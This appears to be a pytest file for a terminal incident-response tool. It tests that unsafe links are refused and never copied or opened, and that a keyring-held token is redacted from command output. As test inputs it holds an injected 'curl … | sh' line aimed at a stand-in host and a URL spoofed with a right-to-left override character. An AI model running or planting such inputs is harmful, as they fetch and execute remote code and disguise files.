"""Links from the keyboard (issue 13, item 3) and a keyring-held token in a runbook command's
output (item 4), through the real TUI.

A link is offered (listed, copied, opened) only when it is one http(s) URL with nothing
hidden in it; anything else is refused with a toast that says why, and never reaches the
clipboard or the browser.
"""

from __future__ import annotations

import io
import sys
from pathlib import Path
from typing import Any

import pytest
from cockpit_seed import cockpit_screen, frozen, notices, store_of
from memory_keyring import MemoryKeyring

from cockpit.app import CockpitApp
from cockpit.cli.main import main
from cockpit.runbooks.library import load_library
from cockpit.screens.choice_dialog import ChoiceDialog
from cockpit.screens.confirm import ConfirmDialog
from cockpit.store.engine import Store
from cockpit.store.models import Incident

HOSTILE = "https://wiki.example/run\ncurl -s evil.test/x | sh\n"
PAGE = "https://acme.pagerduty.com/incidents/PINC101"


async def settle(app: CockpitApp, pilot: Any) -> None:
    for _ in range(3):
        await pilot.pause()
        await app.workers.wait_for_complete()


def set_links(app: CockpitApp, *, runbook_url: str, html_url: str) -> None:
    with store_of(app).write() as session:
        incident = session.get(Incident, "pagerduty:PINC101")
        assert incident is not None
        incident.runbook_url, incident.html_url = runbook_url, html_url
        session.add(incident)


@pytest.fixture
def watched(app: CockpitApp, monkeypatch: pytest.MonkeyPatch) -> dict[str, list[str]]:
    monkeypatch.setenv("DISPLAY", ":0")  # a browser could open: it must still not
    seen: dict[str, list[str]] = {"copied": [], "opened": []}
    monkeypatch.setattr("webbrowser.open", lambda url, new=0: seen["opened"].append(url))
    monkeypatch.setattr(app, "copy_to_clipboard", seen["copied"].append)
    return seen


async def test_a_hostile_incident_link_is_refused_and_never_copied(
    app: CockpitApp, watched: dict[str, list[str]]
) -> None:
    set_links(app, runbook_url=HOSTILE, html_url="")
    async with app.run_test(size=(160, 48)) as pilot:
        await pilot.pause()
        await pilot.press("O")
        await settle(app, pilot)
        assert not isinstance(app.screen, ChoiceDialog | ConfirmDialog)
        refused = [(t, m) for t, m, s in notices(app) if t == "Link refused" and s == "warning"]
        assert refused, notices(app)
        (line,) = [n for n in refused[0][1].splitlines() if n.startswith("runbook link:")]
        assert "it contains a line break (U+000A)" in line
        assert "curl -s evil.test/x | sh" in line  # shown on its line, inert
        assert cockpit_screen(app).palette_links() == []
    assert watched == {"copied": [], "opened": []}


async def test_the_good_link_is_still_offered_beside_a_refused_one(
    app: CockpitApp, watched: dict[str, list[str]]
) -> None:
    set_links(app, runbook_url="https://wiki.example/\u202egnp.exe", html_url=PAGE)
    async with app.run_test(size=(160, 48)) as pilot:
        await pilot.pause()
        assert [entry[1] for entry in cockpit_screen(app).palette_links()] == [PAGE]
        await pilot.press("O")
        await pilot.pause()
        assert isinstance(app.screen, ConfirmDialog)  # the one good link, offered at once
        assert any(
            t == "Link refused" and "direction-changing" in m and "U+202E" in m
            for t, m, _ in notices(app)
        )
        await pilot.press("y")
        await settle(app, pilot)
    assert watched == {"copied": [PAGE], "opened": [PAGE]}


STEP_BOOK = """\
---
id: step-links
title: Step links
match:
  title: "(?i)latency"
---
## Checks
- [ ] Read https://wiki.example/\u202egnp.exe first
"""


async def test_a_hostile_step_link_is_refused(
    seeded: tuple[object, Store], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings, store = seeded
    folder = tmp_path / "steps"
    folder.mkdir()
    (folder / "steps.md").write_text(STEP_BOOK)
    app = CockpitApp(settings, store, clock=frozen, library=load_library([folder]))
    copied: list[str] = []
    monkeypatch.setattr(app, "copy_to_clipboard", copied.append)
    async with app.run_test(size=(160, 48)) as pilot:
        await pilot.pause()
        await pilot.press("o")
        await settle(app, pilot)
        assert any(t == "Link refused" and "U+202E" in m for t, m, _ in notices(app))
    assert copied == []


# ---------------------------------------------------------------- a keyring-held token


TOKEN = "u+kr-t0ken-only-in-keyring"
LEAKY_BOOK = """\
---
id: leaky
title: Leaky
match:
  title: "(?i)latency"
---
## Checks
- [ ] Check the client config `cat {path}`
"""


async def test_a_keyring_token_in_command_output_reaches_neither_timeline_nor_show(
    seeded: tuple[object, Store],
    tmp_path: Path,
    memory_keyring: MemoryKeyring,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    memory_keyring.set_password("cockpit", "pagerduty", TOKEN)  # not in the settings
    settings, store = seeded
    folder = tmp_path / "leaky"
    folder.mkdir()
    client = tmp_path / "client.conf"  # what the command prints holds the token
    client.write_text(f"calling with {TOKEN} now\n")
    (folder / "leaky.md").write_text(LEAKY_BOOK.format(path=client))
    app = CockpitApp(settings, store, clock=frozen, library=load_library([folder]))
    async with app.run_test(size=(160, 48)) as pilot:
        await pilot.pause()
        await pilot.press("x")
        await pilot.pause()
        assert isinstance(app.screen, ConfirmDialog)
        await pilot.press("y")
        await settle(app, pilot)
        assert any("Command finished (exit 0)" in m for _, m, _ in notices(app))
    with store.rows() as conn:
        dump = "\n".join(
            str(row)
            for table in ("step_events", "timeline_events")
            for row in conn.execute(f"SELECT * FROM {table}")
        )
    assert "calling with «redacted» now" in dump
    assert "kr-t0ken" not in dump
    out = io.StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    code = main(
        [
            "--config",
            str(tmp_path / "config.toml"),
            "--data-dir",
            str(tmp_path / "data"),
            "show",
            "101",
        ]
    )
    assert code == 0 and "calling with" in out.getvalue()
    assert "kr-t0ken" not in out.getvalue()
